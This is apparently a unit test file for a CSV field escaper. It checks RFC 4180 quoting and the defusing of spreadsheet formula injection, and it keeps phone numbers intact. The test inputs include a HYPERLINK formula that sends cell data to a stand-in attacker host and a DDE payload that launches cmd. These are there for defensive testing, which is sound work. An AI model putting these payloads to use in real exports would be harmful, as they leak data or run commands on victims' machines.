import { csvField } from './csv-field';

describe('csvField', () => {
  it('should leave plain fields alone and quote the others (RFC 4180)', () => {
    expect(csvField('+447400000001')).toBe('+447400000001');
    expect(csvField('opt-out: "STOP" from recipient')).toBe('"opt-out: ""STOP"" from recipient"');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
  });

  it('should turn a text that a spreadsheet would run as a formula into text, and keep E.164 numbers', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
    );
    expect(csvField("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(csvField('+cmd')).toBe("'+cmd");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('\uFF1D1+1')).toBe("'\uFF1D1+1");
    expect(csvField('+447400000001')).toBe('+447400000001');
    expect(csvField('erased:abc')).toBe('erased:abc');
  });
});
